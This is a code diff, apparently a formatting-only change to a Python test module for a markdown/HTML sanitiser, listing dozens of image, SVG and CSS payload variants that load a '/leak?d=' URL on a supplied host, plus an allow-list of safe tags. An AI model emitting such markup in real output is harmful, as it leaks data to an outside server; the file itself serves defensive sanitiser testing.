@@ -35,7 +35,7 @@ def hostile(host: str) -> list[str]:
         f"![x](http:\\\\{h}/leak?d=http-backslashes)",
         f"![x](HTTP://{h}/leak?d=upper)",
         f"![x](<//{h}/leak?d=angle>)",
-        f"![x](//{h}/leak?d=title \"title\")",
+        f'![x](//{h}/leak?d=title "title")',
         f"![a ![b](//{h}/leak?d=nested-inner)](//{h}/leak?d=nested-outer)",
         f"[![img](//{h}/leak?d=img-in-link)](//{h}/leak?d=link)",
         f"!\\[x\\](//{h}/leak?d=escaped-brackets)",
@@ -51,12 +51,12 @@ def hostile(host: str) -> list[str]:
         f"![x](//{ip}.{port}/leak?d=trailing-dot)",
         # raw HTML in any case, SVG, CSS
         f"<img src=//{h}/leak?d=img>",
-        f"<IMG SRC=\"//{h}/leak?d=IMG\">",
+        f'<IMG SRC="//{h}/leak?d=IMG">',
         f"<iMg/src=//{h}/leak?d=slash-attr>",
-        f"<img src=x srcset=\"//{h}/leak?d=srcset 2x\">",
-        f"<svg><image href=\"//{h}/leak?d=svg\"/></svg>",
-        f"<svg><use xlink:href=\"//{h}/leak?d=svg-use#a\"/></svg>",
-        f"<div style=\"background:url(//{h}/leak?d=css)\">x</div>",
+        f'<img src=x srcset="//{h}/leak?d=srcset 2x">',
+        f'<svg><image href="//{h}/leak?d=svg"/></svg>',
+        f'<svg><use xlink:href="//{h}/leak?d=svg-use#a"/></svg>',
+        f'<div style="background:url(//{h}/leak?d=css)">x</div>',
         f"<span style='background-image:url(\"//{h}/leak?d=css2\")'>y</span>",
         f"<style>@import url(//{h}/leak?d=import);</style>",
         f"<picture><source srcset=//{h}/leak?d=picture></picture>",
@@ -99,9 +99,34 @@ def hostile(host: str) -> list[str]:
 
 
 # The tags a rendered note may contain: structure, never anything that loads.
-STRUCTURE = {"p", "em", "strong", "s", "del", "code", "pre", "h1", "h2", "h3", "h4", "h5", "h6",
-             "ul", "ol", "li", "blockquote", "hr", "br", "table", "thead", "tbody", "tr", "th",
-             "td", "a"}
+STRUCTURE = {
+    "p",
+    "em",
+    "strong",
+    "s",
+    "del",
+    "code",
+    "pre",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "ul",
+    "ol",
+    "li",
+    "blockquote",
+    "hr",
+    "br",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "a",
+}
 
 
 class _Tags(HTMLParser):
@@ -118,8 +143,12 @@ class _Tags(HTMLParser):
                 continue
             if tag == "ol" and name == "start":
                 continue
-            if tag in ("th", "td") and name == "style" and (value or "").startswith(
-                    "text-align:") and "(" not in (value or ""):
+            if (
+                tag in ("th", "td")
+                and name == "style"
+                and (value or "").startswith("text-align:")
+                and "(" not in (value or "")
+            ):
                 continue
             self.bad.append(f"<{tag} {name}={value!r}>")
 
